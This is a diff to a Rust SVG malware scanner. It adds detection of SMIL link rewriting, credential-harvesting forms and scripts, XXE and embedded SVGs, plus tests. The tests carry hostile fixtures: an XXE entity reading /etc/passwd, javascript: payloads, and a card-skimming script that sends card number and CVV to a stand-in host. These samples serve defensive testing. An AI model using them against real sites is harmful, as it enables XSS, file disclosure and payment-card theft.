@@ -8,15 +8,162 @@
 //! - CSS injection (@import, expression)
 //! - Entity expansion attacks (XXE)
 //! - Event handler injection
+//! - SMIL animations (`<animate>`, `<set>`) that rewrite an href or handler
+//!   at runtime
+//! - Credential harvesting forms (SVG/HTML/JS)
+//!
+//! The default pass is regex-based. With `strict_parse` the document is
+//! walked with an XML parser instead, so scripts, handlers, hrefs and entity
+//! declarations are found by structure rather than by spelling; documents
+//! that fail to parse fall back to the regex pass.
+//!
+//! SVGs embedded in other files get the same checks: inline `<svg>` blocks
+//! in HTML pages, and `data:image/svg+xml;base64,` payloads (decoded first)
+//! in HTML and SVG files. Those findings point at the container file and
+//! carry `metadata.embedded_svg` with how and where the SVG was found.
 
+use super::filetype::FileKind;
 use crate::skills::{
-    schema, Finding, ScanParams, Severity, Skill, SkillError, SkillOutput, SkillResult,
+    explained_types, find_explanation, read_text_lossy, schema, Explanation, Explanations, Finding,
+    ScanParams, Severity, Skill, SkillError, SkillOutput, SkillResult,
 };
+use base64::alphabet;
+use base64::engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig};
+use base64::Engine;
+use quick_xml::events::Event;
+use quick_xml::Reader;
 use regex::Regex;
 use serde_json::{json, Value};
-use std::fs;
 use std::path::Path;
-use walkdir::WalkDir;
+
+/// Form field names that phishing kits harvest (compared after stripping
+/// separators and lowercasing)
+const SENSITIVE_FIELD_NAMES: &[&str] = &[
+    "password", "passwd", "pass", "pwd", "ccnum", "ccnumber", "cardnumber", "cardnum",
+    "creditcard", "cc", "cvv", "cvv2", "cvc", "csc", "ssn", "socialsecurity", "pin",
+    "expdate", "ccexp",
+];
+
+/// Most embedded SVGs analyzed per container file
+const MAX_EMBEDDED_SVGS: usize = 64;
+
+/// Standard base64 that accepts data URIs with or without padding
+const DATA_URI_BASE64: GeneralPurpose = GeneralPurpose::new(
+    &alphabet::STANDARD,
+    GeneralPurposeConfig::new().with_decode_padding_mode(DecodePaddingMode::Indifferent),
+);
+
+/// Operator guidance per finding type, for [`Skill::explain`]
+const EXPLANATIONS: Explanations = &[
+    Explanation::new(
+        "credential_harvesting",
+        "An SVG containing a form or input fields for passwords, card numbers, or similar data, \
+         often posting to another host.",
+        "SVG files are sent as harmless images but can render a convincing login page, which \
+         makes them popular phishing attachments.",
+        "Design mockups of login screens saved as SVG.",
+        "Delete the file and block the destination host if it is unknown. Serve SVGs as images, \
+         never as documents.",
+    ),
+    Explanation::new(
+        "svg_base64_js",
+        "Base64 inside an SVG that decodes to JavaScript.",
+        "Encoding script keeps it out of sight of filters that look for script tags and handlers.",
+        "Rare in legitimate images.",
+        "Decode and review the script. Remove it and sanitize the SVG.",
+    ),
+    Explanation::new(
+        "svg_css_injection",
+        "Styles in an SVG that load external resources or use expressions, for example @import or \
+         url() pointing off-site.",
+        "CSS can exfiltrate data through resource requests and track who opened a file.",
+        "Web fonts and stylesheets referenced by icons designed for a specific site.",
+        "Inline the styles the image needs and remove external references.",
+    ),
+    Explanation::new(
+        "svg_data_uri",
+        "A data: URI inside an SVG that carries HTML, script, or another SVG.",
+        "Nested documents in data URIs hide active content from filters that only look at the \
+         outer file.",
+        "Embedded raster images as data:image/png, which are harmless.",
+        "Decode the URI and check its type. Remove anything other than plain images.",
+    ),
+    Explanation::new(
+        "svg_event_handler",
+        "An event handler attribute on an SVG element, such as onload or onclick.",
+        "Handlers run JavaScript as soon as the SVG is opened in a browser, which is a classic \
+         stored XSS vector.",
+        "Interactive SVGs built for a specific page that expects them.",
+        "Remove the handlers or sanitize uploads with a library like DOMPurify. Serve user SVGs \
+         with a restrictive Content-Security-Policy.",
+    ),
+    Explanation::new(
+        "svg_external_href",
+        "An href or xlink:href pointing to an external resource.",
+        "External references leak who viewed the image and can pull in attacker-controlled \
+         content.",
+        "Links on icons and sprite references to the same site.",
+        "Make references relative or inline them.",
+    ),
+    Explanation::new(
+        "svg_external_use",
+        "A <use> element that pulls in content from another document.",
+        "Referenced documents can carry scripts and bypass sanitizers that only checked the outer \
+         file.",
+        "Icon sprites that reference a shared sprite sheet on the same origin.",
+        "Inline the referenced symbol, or restrict references to same-origin fragments.",
+    ),
+    Explanation::new(
+        "svg_foreign_object",
+        "A <foreignObject> element that embeds HTML inside the SVG.",
+        "Embedded HTML can host forms, iframes, and scripts that image sanitizers miss.",
+        "Text layout in diagrams exported from some drawing tools.",
+        "Remove foreignObject from untrusted SVGs, or convert the text to SVG text elements.",
+    ),
+    Explanation::new(
+        "svg_iframe",
+        "An iframe embedded in an SVG.",
+        "Frames load arbitrary pages inside something users think is an image, which is useful \
+         for phishing and drive-by loads.",
+        "Hardly ever legitimate.",
+        "Remove the iframe and treat the file as suspicious.",
+    ),
+    Explanation::new(
+        "svg_javascript_href",
+        "A link with a javascript: URL in an SVG.",
+        "Clicking the element runs script in the viewer's context.",
+        "Hardly ever legitimate.",
+        "Remove the link or replace it with a normal URL.",
+    ),
+    Explanation::new(
+        "svg_script_tag",
+        "A <script> element inside an SVG.",
+        "Scripts run with the origin's privileges when the SVG is opened directly, which makes it \
+         stored XSS on any site that serves uploads.",
+        "Interactive charts and animations built to be inlined on a known page.",
+        "Remove scripts from untrusted SVGs, or serve them from a separate sandbox origin.",
+    ),
+    Explanation::new(
+        "svg_smil_injection",
+        "An SVG animation element (<animate> or <set>) that changes an href or an event handler \
+         attribute at runtime, to a javascript: or external URL, or when the user clicks.",
+        "The dangerous value only exists once the animation runs, so checks that look at static \
+         href and on* attributes never see it. This is a known way around SVG sanitizers.",
+        "Animated links in hand-written interactive SVGs, which rarely need javascript: or \
+         off-site targets.",
+        "Remove the animation element and sanitize the SVG with a library that strips SMIL, or \
+         serve SVGs only as images.",
+    ),
+    Explanation::new(
+        "svg_xxe",
+        "A DOCTYPE with entity declarations, especially external entities, in an SVG.",
+        "XML parsers that resolve external entities can read local files or make requests for the \
+         attacker (XXE).",
+        "Old editors that write a DOCTYPE with no entities.",
+        "Remove the DOCTYPE and make sure every XML parser that handles uploads has external \
+         entities disabled.",
+    ),
+];
 
 pub struct SvgDetector {
     script_tag_regex: Regex,
@@ -26,9 +173,19 @@ pub struct SvgDetector {
     foreign_object_regex: Regex,
     css_injection_regex: Regex,
     entity_regex: Regex,
+    doctype_entity_regex: Regex,
     use_tag_regex: Regex,
     iframe_regex: Regex,
     base64_js_regex: Regex,
+    form_regex: Regex,
+    form_action_regex: Regex,
+    field_name_regex: Regex,
+    js_field_regex: Regex,
+    js_exfil_regex: Regex,
+    inline_svg_regex: Regex,
+    svg_base64_uri_regex: Regex,
+    smil_element_regex: Regex,
+    smil_attribute_regex: Regex,
 }
 
 impl SvgDetector {
@@ -67,6 +224,11 @@ impl SvgDetector {
                 r"(?i)<!ENTITY\s+\w+\s+(?:SYSTEM|PUBLIC)"
             ).unwrap(),
 
+            // Entity declarations inside a parsed DOCTYPE
+            doctype_entity_regex: Regex::new(
+                r"(?i)<!ENTITY\s+(?:%\s+)?([\w.:-]+)\s+(SYSTEM|PUBLIC)\b"
+            ).unwrap(),
+
             // Use tags with external references
             use_tag_regex: Regex::new(
                 r#"(?i)<use[^>]*(?:xlink:)?href\s*=\s*["'](?:https?://|//|data:)[^"']*["']"#
@@ -81,6 +243,33 @@ impl SvgDetector {
             base64_js_regex: Regex::new(
                 r#"(?i)base64[^"']*(?:PHNjcmlwdD|amF2YXNjcmlwdA|b25sb2Fk|b25lcnJvcg)"#
             ).unwrap(),
+
+            // Forms and their submission target
+            form_regex: Regex::new(r"(?is)<form\b([^>]*)>(.*?)</form>").unwrap(),
+            form_action_regex: Regex::new(r#"(?i)\baction\s*=\s*["']([^"']*)["']"#).unwrap(),
+            field_name_regex: Regex::new(r#"(?i)\b(?:name|id)\s*=\s*["']([^"']+)["']"#).unwrap(),
+
+            // Field names referenced from script (selectors, getElementById, FormData keys)
+            js_field_regex: Regex::new(r#"(?i)(?:["'#]|name=)([a-z_\-]{2,20})["'\]]"#).unwrap(),
+
+            // Script sinks that send data to an absolute URL
+            js_exfil_regex: Regex::new(
+                r#"(?i)(?:fetch|sendBeacon|\$\.post|\$\.ajax|axios\.post|\.open)\s*\(\s*(?:["'](?:GET|POST)["']\s*,\s*)?["']((?:https?:)?//[^"'/\s]+)[^"']*["']"#
+            ).unwrap(),
+
+            // Inline SVG blocks in an HTML page
+            inline_svg_regex: Regex::new(r"(?is)<svg\b[^>]*>.*?</svg\s*>").unwrap(),
+
+            // Base64 SVG data URIs; the payload is capture 1
+            svg_base64_uri_regex: Regex::new(
+                r"(?i)data:image/svg\+xml(?:;[\w=.-]+)*;base64,([A-Za-z0-9+/]+=*)"
+            ).unwrap(),
+
+            // SMIL animation elements and their attributes
+            smil_element_regex: Regex::new(r"(?i)<((?:\w+:)?(?:animate|set))\b([^>]*)>").unwrap(),
+            smil_attribute_regex: Regex::new(
+                r#"(?i)([\w:.-]+)\s*=\s*(?:"([^"]*)"|'([^']*)')"#
+            ).unwrap(),
         }
     }
 
@@ -129,6 +318,96 @@ impl SvgDetector {
         findings
     }
 
+    /// Detect SMIL animations that set an href or event handler attribute:
+    /// to a `javascript:` or external URL, or in response to user input
+    /// (`begin="click"`, `begin="el.mouseover"`)
+    fn detect_smil_injection(&self, path: &Path, content: &str) -> Vec<Finding> {
+        let mut findings = Vec::new();
+
+        for cap in self.smil_element_regex.captures_iter(content) {
+            let element = &cap[1];
+            let mut target = None;
+            let mut trigger = None;
+            let mut values = Vec::new();
+
+            for attr in self.smil_attribute_regex.captures_iter(&cap[2]) {
+                let raw = attr.get(2).or(attr.get(3)).map_or("", |m| m.as_str());
+                // Entity-encoded values are decoded, so `jav&#x61;script:` still matches
+                let value = quick_xml::escape::unescape(raw)
+                    .map(|v| v.into_owned())
+                    .unwrap_or_else(|_| raw.to_string());
+                match attr[1].to_lowercase().as_str() {
+                    "attributename" => target = Some(value),
+                    "begin" => trigger = Some(value),
+                    "to" | "from" | "by" => values.push(value),
+                    "values" => values.extend(value.split(';').map(str::to_string)),
+                    _ => {}
+                }
+            }
+
+            let Some(target) = target else {
+                continue;
+            };
+            let target_lower = target.to_lowercase();
+            let handler = target_lower.len() > 2 && target_lower.starts_with("on");
+            if !handler && target_lower != "href" && target_lower != "xlink:href" {
+                continue;
+            }
+
+            // Browsers ignore whitespace and control characters inside schemes
+            let schemes: Vec<String> = values
+                .iter()
+                .map(|v| {
+                    v.chars()
+                        .filter(|c| !c.is_whitespace() && !c.is_control())
+                        .take(16)
+                        .collect::<String>()
+                        .to_lowercase()
+                })
+                .collect();
+            let javascript = schemes.iter().any(|s| s.starts_with("javascript:"));
+            let external = schemes
+                .iter()
+                .any(|s| ["data:", "http:", "https:", "//"].iter().any(|p| s.starts_with(p)));
+            let user_triggered = trigger.as_deref().is_some_and(|begin| {
+                let begin = begin.to_lowercase();
+                ["click", "mouse", "focus", "activate", "key"].iter().any(|e| begin.contains(e))
+            });
+
+            let (confidence, severity, reason) = if javascript {
+                (0.99, Severity::Critical, "sets a javascript: URI")
+            } else if handler {
+                (0.95, Severity::Critical, "sets an event handler attribute")
+            } else if external {
+                (0.85, Severity::Critical, "sets an external URL")
+            } else if user_triggered {
+                (0.75, Severity::High, "rewrites a link when the user interacts")
+            } else {
+                continue;
+            };
+
+            let shown = values.join(";");
+            findings.push(Finding {
+                finding_type: "svg_smil_injection".to_string(),
+                value: json!({
+                    "element": element,
+                    "attribute_name": target,
+                    "value": &shown[..shown.floor_char_boundary(100)],
+                    "begin": trigger
+                }),
+                confidence,
+                location: path.display().to_string(),
+                severity,
+                metadata: json!({
+                    "pattern": "SVG SMIL animation injection",
+                    "description": format!("<{}> animating {} {}", element, target, reason)
+                }),
+            });
+        }
+
+        findings
+    }
+
     /// Detect external resource loading
     fn detect_external_resources(&self, path: &Path, content: &str) -> Vec<Finding> {
         let mut findings = Vec::new();
@@ -353,6 +632,297 @@ impl SvgDetector {
         findings
     }
 
+    /// Build a finding for an element/attribute located by the XML walk
+    fn structural_finding(
+        path: &Path,
+        finding_type: &str,
+        element: &str,
+        attribute: Option<&str>,
+        value: &str,
+        (confidence, severity): (f32, Severity),
+        description: String,
+    ) -> Finding {
+        Finding {
+            finding_type: finding_type.to_string(),
+            value: json!({
+                "element": element,
+                "attribute": attribute,
+                "value": &value[..value.floor_char_boundary(100)]
+            }),
+            confidence,
+            location: path.display().to_string(),
+            severity,
+            metadata: json!({
+                "pattern": "Parsed SVG structure",
+                "description": description
+            }),
+        }
+    }
+
+    /// Detect scripts, event handlers, dangerous hrefs, iframes and external
+    /// entities by walking the parsed document. Returns `None` when the
+    /// document is not well-formed so the caller can fall back to regexes.
+    fn detect_structural(&self, path: &Path, content: &str) -> Option<Vec<Finding>> {
+        let mut findings = Vec::new();
+        let mut reader = Reader::from_str(content);
+
+        loop {
+            match reader.read_event() {
+                Ok(Event::Start(e)) | Ok(Event::Empty(e)) => {
+                    let element = String::from_utf8_lossy(e.name().as_ref()).into_owned();
+                    let local = String::from_utf8_lossy(e.local_name().as_ref()).to_lowercase();
+
+                    match local.as_str() {
+                        "script" => findings.push(Self::structural_finding(
+                            path,
+                            "svg_script_tag",
+                            &element,
+                            None,
+                            "",
+                            (0.99, Severity::Critical),
+                            format!("<{}> element in SVG - direct JavaScript execution", element),
+                        )),
+                        "iframe" => findings.push(Self::structural_finding(
+                            path,
+                            "svg_iframe",
+                            &element,
+                            None,
+                            "",
+                            (0.95, Severity::Critical),
+                            format!("<{}> element - can load arbitrary external content", element),
+                        )),
+                        _ => {}
+                    }
+
+                    for attr in e.attributes() {
+                        let attr = attr.ok()?;
+                        let name = String::from_utf8_lossy(attr.key.as_ref()).into_owned();
+                        let attr_local =
+                            String::from_utf8_lossy(attr.key.local_name().as_ref()).to_lowercase();
+                        // Entity-encoded values are decoded, so `jav&#x61;script:` still matches
+                        let value = attr
+                            .unescape_value()
+                            .map(|v| v.into_owned())
+                            .unwrap_or_else(|_| String::from_utf8_lossy(&attr.value).into_owned());
+
+                        if attr_local.len() > 2 && attr_local.starts_with("on") {
+                            findings.push(Self::structural_finding(
+                                path,
+                                "svg_event_handler",
+                                &element,
+                                Some(&name),
+                                &value,
+                                (0.95, Severity::Critical),
+                                format!("{} handler on <{}> can execute JavaScript", name, element),
+                            ));
+                        } else if attr_local == "href" {
+                            // Browsers ignore whitespace and control characters inside schemes
+                            let scheme: String = value
+                                .chars()
+                                .filter(|c| !c.is_whitespace() && !c.is_control())
+                                .take(16)
+                                .collect::<String>()
+                                .to_lowercase();
+
+                            let (finding_type, rating, description) =
+                                if scheme.starts_with("javascript:") {
+                                    (
+                                        "svg_javascript_href",
+                                        (0.99, Severity::Critical),
+                                        "javascript: URI in href - direct code execution",
+                                    )
+                                } else if ["data:", "http:", "https:", "//"]
+                                    .iter()
+                                    .any(|p| scheme.starts_with(p))
+                                {
+                                    if local == "use" {
+                                        (
+                                            "svg_external_use",
+                                            (0.85, Severity::High),
+                                            "External SVG inclusion - can load malicious content",
+                                        )
+                                    } else {
+                                        (
+                                            "svg_external_href",
+                                            (0.8, Severity::High),
+                                            "External URL in SVG - potential exfiltration or SSRF",
+                                        )
+                                    }
+                                } else {
+                                    continue;
+                                };
+
+                            findings.push(Self::structural_finding(
+                                path,
+                                finding_type,
+                                &element,
+                                Some(&name),
+                                &value,
+                                rating,
+                                description.to_string(),
+                            ));
+                        }
+                    }
+                }
+                Ok(Event::DocType(e)) => {
+                    let doctype = String::from_utf8_lossy(&e);
+                    for cap in self.doctype_entity_regex.captures_iter(&doctype) {
+                        findings.push(Finding {
+                            finding_type: "svg_xxe".to_string(),
+                            value: json!({
+                                "element": "!ENTITY",
+                                "entity": &cap[1],
+                                "kind": cap[2].to_uppercase()
+                            }),
+                            confidence: 0.95,
+                            location: path.display().to_string(),
+                            severity: Severity::Critical,
+                            metadata: json!({
+                                "pattern": "XML External Entity (XXE)",
+                                "description": format!(
+                                    "{} entity '{}' declared - potential file disclosure or SSRF",
+                                    cap[2].to_uppercase(),
+                                    &cap[1]
+                                )
+                            }),
+                        });
+                    }
+                }
+                Ok(Event::Eof) => break,
+                Ok(_) => {}
+                Err(_) => return None,
+            }
+        }
+
+        Some(findings)
+    }
+
+    /// Normalize a form field name for comparison against the sensitive list
+    fn is_sensitive_field(name: &str) -> bool {
+        let normalized: String = name
+            .chars()
+            .filter(|c| c.is_ascii_alphanumeric())
+            .collect::<String>()
+            .to_lowercase();
+
+        SENSITIVE_FIELD_NAMES.contains(&normalized.as_str())
+    }
+
+    /// Extract the host from an absolute or protocol-relative URL
+    fn url_host(url: &str) -> Option<&str> {
+        let rest = url
+            .strip_prefix("https://")
+            .or_else(|| url.strip_prefix("http://"))
+            .or_else(|| url.strip_prefix("//"))?;
+
+        rest.split(['/', '?', '#']).next().filter(|h| !h.is_empty())
+    }
+
+    /// Detect forms or scripts collecting credentials/card data and sending them off-origin
+    fn detect_credential_harvesting(&self, path: &Path, content: &str) -> Vec<Finding> {
+        let mut findings = Vec::new();
+
+        // HTML forms
+        for cap in self.form_regex.captures_iter(content) {
+            let attrs = cap.get(1).map(|m| m.as_str()).unwrap_or("");
+            let body = cap.get(2).map(|m| m.as_str()).unwrap_or("");
+
+            let mut fields: Vec<String> = self
+                .field_name_regex
+                .captures_iter(body)
+                .map(|c| c[1].to_string())
+                .filter(|name| Self::is_sensitive_field(name))
+                .collect();
+            fields.sort();
+            fields.dedup();
+
+            if fields.is_empty() {
+                continue;
+            }
+
+            let action = self
+                .form_action_regex
+                .captures(attrs)
+                .map(|c| c[1].to_string())
+                .unwrap_or_default();
+            let host = Self::url_host(&action);
+            let off_origin = host.is_some();
+
+            findings.push(Finding {
+                finding_type: "credential_harvesting".to_string(),
+                value: json!({
+                    "fields": fields,
+                    "action": action,
+                    "host": host,
+                    "off_origin": off_origin,
+                    "source": "form"
+                }),
+                confidence: if off_origin { 0.9 } else { 0.5 },
+                location: path.display().to_string(),
+                severity: Severity::High,
+                metadata: json!({
+                    "pattern": "Credential harvesting form",
+                    "description": if off_origin {
+                        format!("Form collecting {:?} posts to external host {}", fields, host.unwrap_or(""))
+                    } else {
+                        format!("Same-origin form collecting {:?}", fields)
+                    }
+                }),
+            });
+        }
+
+        // Script-driven collection: sensitive field names read and sent to an absolute URL
+        let mut js_fields: Vec<String> = self
+            .js_field_regex
+            .captures_iter(content)
+            .map(|c| c[1].to_string())
+            .filter(|name| Self::is_sensitive_field(name))
+            .collect();
+        js_fields.sort();
+        js_fields.dedup();
+
+        if !js_fields.is_empty() {
+            let mut hosts: Vec<String> = self
+                .js_exfil_regex
+                .captures_iter(content)
+                .filter_map(|c| Self::url_host(&c[1]).map(|h| h.to_string()))
+                .collect();
+            hosts.sort();
+            hosts.dedup();
+
+            if !hosts.is_empty() {
+                findings.push(Finding {
+                    finding_type: "credential_harvesting".to_string(),
+                    value: json!({
+                        "fields": js_fields,
+                        "hosts": hosts,
+                        "off_origin": true,
+                        "source": "script"
+                    }),
+                    confidence: 0.85,
+                    location: path.display().to_string(),
+                    severity: Severity::High,
+                    metadata: json!({
+                        "pattern": "Credential harvesting script",
+                        "description": format!("Script reads {:?} and sends data to {:?}", js_fields, hosts)
+                    }),
+                });
+            }
+        }
+
+        findings
+    }
+
+    /// Check if file is HTML or script that may host a phishing form
+    fn is_web_file(&self, path: &Path) -> bool {
+        let ext = path.extension()
+            .and_then(|e| e.to_str())
+            .unwrap_or("")
+            .to_lowercase();
+
+        ["html", "htm", "xhtml", "php", "js", "mjs", "ts"].contains(&ext.as_str())
+    }
+
     /// Check if file is an SVG
     fn is_svg_file(&self, path: &Path, content: &str) -> bool {
         // Check extension
@@ -370,41 +940,101 @@ impl SvgDetector {
             || content.trim_start().starts_with("<svg")
     }
 
-    /// Analyze a single file
-    fn analyze_file(&self, path: &Path) -> Vec<Finding> {
-        let mut findings = Vec::new();
+    /// SVGs inside a non-SVG container: inline blocks in HTML pages, and
+    /// base64 SVG data URIs in HTML or SVG files. Returns
+    /// `(kind, byte offset, svg text)` in document order.
+    fn embedded_svgs(
+        &self,
+        path: &Path,
+        content: &str,
+        is_svg: bool,
+    ) -> Vec<(&'static str, usize, String)> {
+        let ext = path
+            .extension()
+            .and_then(|e| e.to_str())
+            .unwrap_or("")
+            .to_lowercase();
+        let is_html = ["html", "htm", "xhtml"].contains(&ext.as_str());
 
-        if let Ok(content) = fs::read_to_string(path) {
-            // Only analyze if it's an SVG
-            if !self.is_svg_file(path, &content) {
-                return findings;
+        let mut embedded = Vec::new();
+        if is_html {
+            for mat in self.inline_svg_regex.find_iter(content) {
+                embedded.push(("inline", mat.start(), mat.as_str().to_string()));
+            }
+        }
+        if is_html || is_svg {
+            for cap in self.svg_base64_uri_regex.captures_iter(content) {
+                let Ok(bytes) = DATA_URI_BASE64.decode(&cap[1]) else {
+                    continue;
+                };
+                let decoded = String::from_utf8_lossy(&bytes);
+                if decoded.contains("<svg") {
+                    let offset = cap.get(0).map_or(0, |m| m.start());
+                    embedded.push(("base64_data_uri", offset, decoded.into_owned()));
+                }
             }
-
-            findings.extend(self.detect_script_injection(path, &content));
-            findings.extend(self.detect_external_resources(path, &content));
-            findings.extend(self.detect_data_uri(path, &content));
-            findings.extend(self.detect_foreign_object(path, &content));
-            findings.extend(self.detect_css_injection(path, &content));
-            findings.extend(self.detect_xxe(path, &content));
-            findings.extend(self.detect_iframes(path, &content));
         }
 
-        findings
+        embedded.sort_by_key(|(_, offset, _)| *offset);
+        embedded.truncate(MAX_EMBEDDED_SVGS);
+        embedded
     }
 
-    /// Analyze a directory
-    fn analyze_directory(&self, path: &Path, recursive: bool) -> Vec<Finding> {
+    /// SVG-specific checks on one document
+    fn analyze_svg(&self, path: &Path, content: &str, strict_parse: bool) -> Vec<Finding> {
         let mut findings = Vec::new();
 
-        let walker = if recursive {
-            WalkDir::new(path)
+        let structural = if strict_parse {
+            self.detect_structural(path, content)
         } else {
-            WalkDir::new(path).max_depth(1)
+            None
         };
 
-        for entry in walker.into_iter().filter_map(|e| e.ok()) {
-            if entry.file_type().is_file() {
-                findings.extend(self.analyze_file(entry.path()));
+        match structural {
+            Some(parsed) => findings.extend(parsed),
+            None => {
+                findings.extend(self.detect_script_injection(path, content));
+                findings.extend(self.detect_external_resources(path, content));
+                findings.extend(self.detect_xxe(path, content));
+                findings.extend(self.detect_iframes(path, content));
+            }
+        }
+
+        findings.extend(self.detect_smil_injection(path, content));
+        findings.extend(self.detect_data_uri(path, content));
+        findings.extend(self.detect_foreign_object(path, content));
+        findings.extend(self.detect_css_injection(path, content));
+
+        findings
+    }
+
+    /// Analyze a single file
+    fn analyze_file(&self, path: &Path, max_bytes: u64, strict_parse: bool) -> Vec<Finding> {
+        read_text_lossy(path, max_bytes)
+            .map(|content| self.analyze_text(path, &content, strict_parse))
+            .unwrap_or_default()
+    }
+
+    /// Run every check over `content`, reported against `path`
+    fn analyze_text(&self, path: &Path, content: &str, strict_parse: bool) -> Vec<Finding> {
+        let mut findings = Vec::new();
+        let is_svg = self.is_svg_file(path, content);
+
+        if is_svg || self.is_web_file(path) {
+            findings.extend(self.detect_credential_harvesting(path, content));
+        }
+
+        if is_svg {
+            findings.extend(self.analyze_svg(path, content, strict_parse));
+        }
+
+        for (kind, offset, svg) in self.embedded_svgs(path, content, is_svg) {
+            for mut finding in self.analyze_svg(path, &svg, strict_parse) {
+                finding.metadata["embedded_svg"] = json!({
+                    "kind": kind,
+                    "offset": offset
+                });
+                findings.push(finding);
             }
         }
 
@@ -426,7 +1056,8 @@ impl Skill for SvgDetector {
     fn description(&self) -> &str {
         "Detects malicious patterns in SVG files including embedded JavaScript, \
          event handlers, external resource loading, data URIs, foreignObject exploits, \
-         CSS injection, and XXE attacks."
+         CSS injection, XXE attacks, SMIL animations that rewrite links or handlers, \
+         and credential harvesting forms in SVG/HTML/JS."
     }
 
     fn schema(&self) -> Value {
@@ -435,7 +1066,11 @@ impl Skill for SvgDetector {
             self.description(),
             json!({
                 "path": schema::string_param("File or directory to scan"),
-                "recursive": schema::bool_param("Scan directories recursively", true)
+                "recursive": schema::bool_param("Scan directories recursively", true),
+                "strict_parse": schema::bool_param(
+                    "Parse SVGs as XML and match scripts, handlers, hrefs and entities structurally",
+                    false
+                )
             }),
             vec!["path"],
         )
@@ -452,11 +1087,15 @@ impl Skill for SvgDetector {
             )));
         }
 
-        let findings = if path.is_file() {
-            self.analyze_file(path)
-        } else {
-            self.analyze_directory(path, scan_params.recursive)
-        };
+        // The regex pass is faster, so XML parsing is opt-in
+        let strict_parse = params
+            .get("strict_parse")
+            .and_then(Value::as_bool)
+            .unwrap_or(false);
+
+        let max_bytes = scan_params.max_file_bytes();
+        let (findings, stats) =
+            scan_params.scan_files(|file| self.analyze_file(file, max_bytes, strict_parse))?;
 
         let threshold = self.confidence_threshold();
         let filtered: Vec<Finding> = findings
@@ -464,21 +1103,43 @@ impl Skill for SvgDetector {
             .filter(|f| f.confidence >= threshold)
             .collect();
 
-        Ok(SkillOutput::with_findings(filtered))
+        Ok(SkillOutput::with_findings_and_stats(filtered, stats))
     }
 
     fn confidence_threshold(&self) -> f32 {
         0.7
     }
 
+    fn analyze_content(&self, name: &str, content: &str) -> SkillResult<Vec<Finding>> {
+        let threshold = self.confidence_threshold();
+        let mut findings = self.analyze_text(Path::new(name), content, false);
+        findings.retain(|f| f.confidence >= threshold);
+        Ok(findings)
+    }
+
+    fn finding_types(&self) -> Vec<&str> {
+        explained_types(EXPLANATIONS)
+    }
+
+    fn explain(&self, finding_type: &str) -> Option<Explanation> {
+        find_explanation(EXPLANATIONS, finding_type)
+    }
+
     fn categories(&self) -> Vec<&str> {
         vec!["svg", "xss", "injection", "web_security"]
     }
+
+    /// SVG, HTML and scripts are all text; nothing with a binary signature
+    /// can hold them
+    fn applies_to(&self, _path: &Path, kind: FileKind) -> bool {
+        kind == FileKind::Unknown
+    }
 }
 
 #[cfg(test)]
 mod tests {
     use super::*;
+    use crate::skills::DEFAULT_MAX_FILE_BYTES;
 
     #[test]
     fn test_script_detection() {
@@ -504,4 +1165,193 @@ mod tests {
 
         assert!(detector.xlink_regex.is_match(malicious_svg));
     }
+
+    #[test]
+    fn test_smil_animation_injection() {
+        let detector = SvgDetector::new();
+        let svg = r##"<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">
+  <a id="link">
+    <set attributeName="href" to="jav&#x61;script:alert(document.domain)"/>
+    <text x="10" y="20">Open invoice</text>
+  </a>
+  <a><animate attributeName="xlink:href" values="#a;https://login.example.net/" dur="1s"/></a>
+  <a><set attributeName="href" to="#next" begin="link.click"/></a>
+  <rect><set attributeName="onmouseover" to="alert(1)"/></rect>
+  <rect><animate attributeName="opacity" from="0" to="1" begin="click"/></rect>
+</svg>"##;
+
+        let findings = detector.analyze_text(Path::new("invoice.svg"), svg, false);
+        let smil: Vec<(&str, Severity)> = findings
+            .iter()
+            .filter(|f| f.finding_type == "svg_smil_injection")
+            .map(|f| (f.value["attribute_name"].as_str().unwrap(), f.severity))
+            .collect();
+        assert_eq!(
+            smil,
+            [
+                ("href", Severity::Critical),
+                ("xlink:href", Severity::Critical),
+                ("href", Severity::High),
+                ("onmouseover", Severity::Critical),
+            ]
+        );
+    }
+
+    #[test]
+    fn test_off_origin_card_form() {
+        let detector = SvgDetector::new();
+        let dir = tempfile::tempdir().unwrap();
+        let page = dir.path().join("checkout.html");
+        std::fs::write(
+            &page,
+            r#"<form method="post" action="https://collect.evil-cdn.xyz/gate.php">
+                 <input name="ccnum"><input name="cvv"><input name="email">
+               </form>"#,
+        )
+        .unwrap();
+
+        let findings = detector.analyze_file(&page, DEFAULT_MAX_FILE_BYTES, false);
+        let harvest = findings
+            .iter()
+            .find(|f| f.finding_type == "credential_harvesting")
+            .expect("card form should be flagged");
+
+        assert_eq!(harvest.severity, Severity::High);
+        assert_eq!(harvest.value["off_origin"], true);
+        assert_eq!(harvest.value["host"], "collect.evil-cdn.xyz");
+        assert_eq!(harvest.value["fields"], json!(["ccnum", "cvv"]));
+        assert!(harvest.confidence >= 0.9);
+    }
+
+    #[test]
+    fn test_same_origin_login_form_is_low_confidence() {
+        let detector = SvgDetector::new();
+        let dir = tempfile::tempdir().unwrap();
+        let page = dir.path().join("login.html");
+        std::fs::write(
+            &page,
+            r#"<form action="/session"><input name="user"><input name="password"></form>"#,
+        )
+        .unwrap();
+
+        let findings = detector.analyze_file(&page, DEFAULT_MAX_FILE_BYTES, false);
+        let harvest = findings
+            .iter()
+            .find(|f| f.finding_type == "credential_harvesting")
+            .unwrap();
+
+        assert_eq!(harvest.value["off_origin"], false);
+        assert!(harvest.confidence < detector.confidence_threshold());
+    }
+
+    #[test]
+    fn test_script_exfil_of_card_fields() {
+        let detector = SvgDetector::new();
+        let js = r#"
+            const data = { n: document.getElementById('cardnumber').value,
+                           c: document.querySelector('[name=cvv]').value };
+            fetch("https://skimmer.example.ru/c", { method: 'POST', body: JSON.stringify(data) });
+        "#;
+
+        let findings = detector.detect_credential_harvesting(Path::new("skim.js"), js);
+        assert_eq!(findings.len(), 1);
+        assert_eq!(findings[0].value["hosts"], json!(["skimmer.example.ru"]));
+    }
+
+    #[test]
+    fn test_strict_parse_finds_obfuscated_payloads() {
+        let detector = SvgDetector::new();
+        let svg = r#"<?xml version="1.0"?>
+<!DOCTYPE svg [
+  <!ENTITY
+     leak   SYSTEM "file:///etc/passwd">
+]>
+<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">
+  <animate onbegin = "alert(1)"/>
+  <a xlink:href="jav&#x61;script:alert(2)"><text>x</text></a>
+</svg>"#;
+
+        let findings = detector.detect_structural(Path::new("x.svg"), svg).unwrap();
